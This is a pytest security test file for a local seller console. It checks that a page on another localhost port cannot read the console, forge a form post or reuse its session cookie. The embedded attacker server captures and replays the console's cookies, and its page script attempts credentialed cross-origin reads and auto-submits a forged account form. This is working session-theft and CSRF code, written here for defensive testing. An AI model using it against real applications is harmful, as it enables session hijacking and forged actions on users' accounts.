"""A page on another port of 127.0.0.1 against the console, in headless Chromium (issue 25,
item 4). Browsers keep cookies per host, not per port, and count every port of 127.0.0.1
as one site: a page served there (a plain ``http.server``) that makes the browser reload it
receives the console's cookie, and it can make the browser send requests to the console.

What the tests show: the page gets only an opaque session id under the console's port's
name; its scripts cannot read the console; a form it posts is refused; and the id it got,
replayed by the page's server running as another user (nobody, via ``setpriv``), is
refused. Two consoles on two ports keep their own sessions in one browser.
"""

from __future__ import annotations

import json
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from cryptography.fernet import Fernet
from helpers.console import as_nobody, base, chromium, require_root, system_python

from hyreka_plugin_amazon.refhost.host import ReferenceHost
from hyreka_plugin_amazon.refhost.web.console import Console
from hyreka_plugin_amazon.refhost.web.serving import RunningConsole, serve_in_thread

pytestmark = pytest.mark.slow

# The other port's server: standard library only, so that it can run as another user.
# It logs each visit's Cookie header and replays every console cookie against the console;
# its page reloads itself once, tries to read the console, reports, then posts a form there.
ATTACKER = r"""
import http.server, json, sys, urllib.error, urllib.request

CONSOLE = sys.argv[1]
PAGE = '''<!doctype html><title>a local page</title><body><script>
const target = %s;
async function attack() {
  const report = {};
  try {
    const answer = await fetch(target + "/c/amazon/accounts", {credentials: "include"});
    report.read = "read " + answer.status + " " + (await answer.text()).slice(0, 300);
  } catch (error) { report.read = "blocked"; }
  try {
    const answer = await fetch(target + "/", {credentials: "include", mode: "no-cors"});
    report.opaque = answer.type;
  } catch (error) { report.opaque = "blocked"; }
  await fetch("/report", {method: "POST", body: JSON.stringify(report)});
  const form = document.createElement("form");
  form.method = "post";
  form.action = target + "/c/amazon/accounts/new";
  for (const [name, value] of [["name", "planted"], ["client_id", "x"],
      ["client_secret", "y"], ["refresh_token", "z"], ["marketplaces", "DE"]]) {
    const input = document.createElement("input");
    input.name = name; input.value = value; form.appendChild(input);
  }
  document.body.appendChild(form);
  form.submit();
}
if (!location.search) { location.replace("/?again=1"); } else { attack(); }
</script></body>'''


def say(**event):
    print(json.dumps(event), flush=True)


def replay(cookie):
    request = urllib.request.Request(CONSOLE + "/c/amazon/accounts", headers={"Cookie": cookie})
    try:
        with urllib.request.urlopen(request, timeout=5) as answer:
            return answer.status
    except urllib.error.HTTPError as refused:
        return refused.code


class Handler(http.server.BaseHTTPRequestHandler):
    def log_message(self, *args):
        pass

    def do_GET(self):
        cookie = self.headers.get("Cookie", "")
        stolen = [c.strip() for c in cookie.split(";") if c.strip().startswith("hyreka_console")]
        say(event="visit", path=self.path, cookie=cookie,
            replay=[replay(c) for c in stolen])
        body = (PAGE % json.dumps(CONSOLE)).encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        length = int(self.headers.get("Content-Length", "0"))
        say(event="report", report=json.loads(self.rfile.read(length) or b"{}"))
        self.send_response(204)
        self.end_headers()


server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
say(event="ready", port=server.server_port)
server.serve_forever()
"""


@dataclass
class Attack:
    """What the other port's server saw and what the browser showed at the end."""

    attacker_port: int
    visits: list[dict[str, Any]] = field(default_factory=list)
    report: dict[str, str] = field(default_factory=dict)
    final_status: int | None = None
    final_text: str = ""


@pytest.fixture
def host(tmp_path: Path) -> Iterator[ReferenceHost]:
    env = {"HYREKA_AMAZON_KEY": Fernet.generate_key().decode()}
    with ReferenceHost(tmp_path / "data", env=env) as opened:
        yield opened


@pytest.fixture
def console(host: ReferenceHost) -> Iterator[RunningConsole]:
    running = serve_in_thread(Console(host))
    try:
        yield running
    finally:
        running.stop()


def _attack(console: RunningConsole, *, as_other_user: bool) -> Attack:
    """Log Chromium in to the console, then let it open the page on the other port."""
    argv = ("-c", ATTACKER, base(console))
    command = as_nobody(*argv) if as_other_user else [system_python(), "-I", *argv]
    with (
        subprocess.Popen(command, stdout=subprocess.PIPE, text=True, cwd="/") as attacker,
        chromium() as browser,
    ):
        assert attacker.stdout is not None
        try:
            ready = json.loads(attacker.stdout.readline())
            attack = Attack(attacker_port=int(ready["port"]))
            context = browser.new_context()
            page = context.new_page()
            page.set_default_timeout(20_000)
            page.goto(console.url)
            assert "Amazon (Seller Central)" in page.content()  # logged in
            with page.expect_navigation(url=base(console) + "/**") as posted:
                page.goto(f"http://127.0.0.1:{attack.attacker_port}/")
            answer = posted.value
            attack.final_status = answer.status if answer is not None else None
            attack.final_text = page.content()
            for line in attacker.stdout:
                event = json.loads(line)
                if event["event"] == "visit":
                    attack.visits.append(event)
                elif event["event"] == "report":
                    attack.report = event["report"]
                    break
            own = page.goto(base(console) + "/c/amazon/accounts")  # the seller's own session
            assert own is not None
            assert own.status == 200
            context.close()
            return attack
        finally:
            attacker.terminate()
            attacker.wait(timeout=30)


def test_a_page_on_another_port_gets_an_opaque_id_reads_nothing_and_posts_nothing(
    console: RunningConsole,
) -> None:
    attack = _attack(console, as_other_user=False)
    name = f"hyreka_console_{console.port}"
    pages = [v["path"] for v in attack.visits if v["path"] != "/favicon.ico"]
    assert pages == ["/", "/?again=1"]  # it reloaded itself
    cookies = [v["cookie"] for v in attack.visits]
    assert any(c.startswith(f"{name}=") for c in cookies)  # browsers do send it there
    for cookie in cookies:
        for pair in filter(None, (c.strip() for c in cookie.split(";"))):
            cookie_name, value = pair.split("=", 1)
            assert cookie_name == name
            assert "." not in value  # an id, not a signed payload with the CSRF token
    assert attack.report == {"read": "blocked", "opaque": "opaque"}
    assert attack.final_status == 403  # the form posted from the other port
    assert "Amazon (Seller Central)" not in attack.final_text
    assert console.console.host.store.list_accounts() == []


def test_another_users_page_on_another_port_cannot_use_the_cookie(
    console: RunningConsole,
) -> None:
    """The other port's server belongs to another user (nobody): the cookie it receives,
    replayed to the console, is refused (403: the same-user check)."""
    require_root()
    attack = _attack(console, as_other_user=True)
    replays = [status for visit in attack.visits for status in visit["replay"]]
    assert replays
    assert set(replays) == {403}
    assert console.console.host.store.list_accounts() == []


def test_two_consoles_on_two_ports_keep_their_sessions_in_one_browser(
    host: ReferenceHost,
) -> None:
    """With one cookie name the second console's login replaced the first one's cookie."""
    first = serve_in_thread(Console(host))
    second = serve_in_thread(Console(host))
    try:
        with chromium() as browser:
            context = browser.new_context()
            page = context.new_page()
            page.set_default_timeout(20_000)
            page.goto(first.url)
            page.goto(second.url)
            for running in (first, second):
                answer = page.goto(base(running) + "/c/amazon/accounts")
                assert answer is not None
                assert answer.status == 200
            names = sorted(c["name"] for c in context.cookies())
            assert names == sorted(f"hyreka_console_{r.port}" for r in (first, second))
            context.close()
    finally:
        first.stop()
        second.stop()
